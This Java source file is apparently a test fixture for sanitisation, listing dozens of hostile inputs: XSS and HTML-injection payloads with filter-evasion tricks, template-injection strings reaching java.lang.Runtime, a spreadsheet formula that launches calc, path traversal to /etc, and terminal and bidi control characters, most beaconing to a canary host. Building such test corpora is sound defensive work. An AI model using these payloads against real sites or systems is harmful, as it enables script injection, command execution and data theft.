package org.backfile.hostile;

import java.util.ArrayList;
import java.util.List;

/** What would run, load or lead astray if it came through. */
final class Payloads {

    /** CODE is what a script would do, ID the canary's name. */
    private static final List<String> MARKUP = List.of(
            "<script>CODE</script>",
            "<ScRiPt >CODE</sCrIpT >",
            "<script src=https://canary.invalid/ID></script>",
            "<script src=//canary.invalid/ID></script>",
            "<scr<script>ipt>CODE</scr</script>ipt>",
            "</p></div></main><script>CODE</script>",
            "</title></textarea></style></noscript></template><script>CODE</script>",
            "--><script>CODE</script><!--",
            "]]><script>CODE</script><![CDATA[",
            "<!--><img src=x onerror=CODE>-->",
            "<![CDATA[<script>CODE</script>]]>",
            "<?xml version='1.0'?><script>CODE</script>",
            "<img src=x onerror=CODE>",
            "<img src=x onerror\n=\nCODE>",
            "<img/src=x/onerror=CODE>",
            "<img src='https://canary.invalid/ID'>",
            "<img srcset='https://canary.invalid/ID 2x'>",
            "<img src=data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=>",
            "<picture><source srcset=https://canary.invalid/ID><img src=x></picture>",
            "<svg onload=CODE>",
            "<svg><script>CODE</script></svg>",
            "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
            "<svg><a xlink:href='javascript:CODE'><text y=20>ID</text></a></svg>",
            "<svg><use href='https://canary.invalid/ID#x'/></svg>",
            "<svg><foreignObject><iframe srcdoc='<script>CODE</script>'></iframe></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=CODE&gt;'>",
            "<math href='javascript:CODE'>ID</math>",
            "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
            "<iframe src='javascript:CODE'></iframe>",
            "<iframe srcdoc='&lt;script&gt;CODE&lt;/script&gt;'></iframe>",
            "<object data='https://canary.invalid/ID'></object>",
            "<embed src='https://canary.invalid/ID'>",
            "<applet code=ID></applet>",
            "<frameset><frame src='javascript:CODE'></frameset>",
            "<portal src='https://canary.invalid/ID'></portal>",
            "<video src='https://canary.invalid/ID' poster='https://canary.invalid/ID' onerror=CODE autoplay></video>",
            "<audio src=x onerror=CODE autoplay>",
            "<input autofocus onfocus=CODE>",
            "<details open ontoggle=CODE>ID</details>",
            "<marquee onstart=CODE>ID</marquee>",
            "<body onload=CODE onpageshow=CODE>",
            "<style>@import 'https://canary.invalid/ID'; * { background: url(https://canary.invalid/ID) }</style>",
            "<p style='background:url(https://canary.invalid/ID)'>ID</p>",
            "<link rel=stylesheet href='https://canary.invalid/ID'>",
            "<link rel=prefetch href='https://canary.invalid/ID'><link rel=dns-prefetch href='//canary.invalid'>",
            "<meta http-equiv=refresh content='0;url=https://canary.invalid/ID'>",
            "<meta http-equiv=Content-Security-Policy content='script-src *'>",
            "<base href='https://canary.invalid/ID/'>",
            "<form action='https://canary.invalid/ID'><button>ID</button></form>",
            "<a href='javascript:CODE'>ID</a>",
            "<a href='JaVaScRiPt:CODE'>ID</a>",
            "<a href='java\tscript:CODE'>ID</a>",
            "<a href='java&#10;script:CODE'>ID</a>",
            "<a href='&#1;javascript:CODE'>ID</a>",
            "<a href='java&#115;cript&colon;CODE'>ID</a>",
            "<a href=' \u2028javascript:CODE'>ID</a>",
            "<a href='vbscript:CODE'>ID</a>",
            "<a href='data:text/html,<script>CODE</script>'>ID</a>",
            "<a href='//canary.invalid/ID'>ID</a>",
            "<a href='\\\\canary.invalid\\ID'>ID</a>",
            "<a href='file:///etc/passwd'>ID</a>",
            "<a href='https://canary.invalid/ID\" onmouseover=\"CODE'>ID</a>",
            "<a href='https://canary.invalid/ID' ping='https://canary.invalid/ID' target=_blank>ID</a>",
            "<a id=backfile name=backfile href='https://canary.invalid/ID'>ID</a><form id=search name=attributes><input name=parts></form>",
            "<div id=main class='row title'><slot name=x></slot></div>",
            "<template><script>CODE</script></template>",
            "<xmp><script>CODE</script></xmp>",
            "<plaintext><script>CODE</script>",
            "<textarea autofocus onfocus=CODE><script>CODE</script></textarea>",
            "<button formaction='javascript:CODE'>ID</button>",
            "<isindex type=image src=x onerror=CODE>",
            "<table background='https://canary.invalid/ID'><td background='javascript:CODE'>ID</table>",
            "<bdo dir=rtl><script>CODE</script></bdo>");

    /** What is no markup, and would do harm in something that is made of the text. */
    private static final List<String> WORDS = List.of(
            "{{ 7 * 7 }}{{ ID }}",
            "{% include \"layout.peb\" %}{{ beans }}",
            "{{ \"\".getClass().forName(\"java.lang.Runtime\") }}",
            "{# ID #}{% verbatim %}",
            "${7*7}#{7*7}<%= 7*7 %>",
            "');CODE//",
            "\";CODE//",
            "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
            "&lt;script&gt;CODE&lt;/script&gt;",
            "\u2028CODE\u2029",
            "\"});CODE;backfile.shard({\"",
            "=cmd|'/c calc'!A1 ID",
            "+HYPERLINK(\"https://canary.invalid/ID\";\"ID\")",
            "@SUM(1+1)*ID",
            "\tID=1+1",
            "ID}, url = {https://canary.invalid/ID}",
            "ID\nER  - \nTY  - NEWS\nUR  - https://canary.invalid/ID",
            "\u001B]0;ID\u0007\u001B[2J\u001B[31mID",
            "ID\u202Eterces\u202C \u2066ID\u2069 \u200F",
            "I\u0000D ID \u0001\u0007\b\f\u001F\u007F\u0085\u009F",
            "\uD800 ID \uDFFF \uFFFE\uFFFF",
            "Z\u0341\u0350\u036F\u0489".repeat(30) + " ID",
            "../../../../etc/ID",
            "con",
            "aux.",
            "nul",
            "com1",
            "lpt9.txt");

    private static final String CODE = "window.__canary=`ID`;new(Image)().src=`https://canary.invalid/ID`";

    private Payloads() {}

    static List<String> all() {
        var all = new ArrayList<>(MARKUP);
        all.addAll(WORDS);
        return all;
    }

    static String made(String payload, String id) {
        return payload.replace("CODE", CODE).replace("ID", id);
    }
}
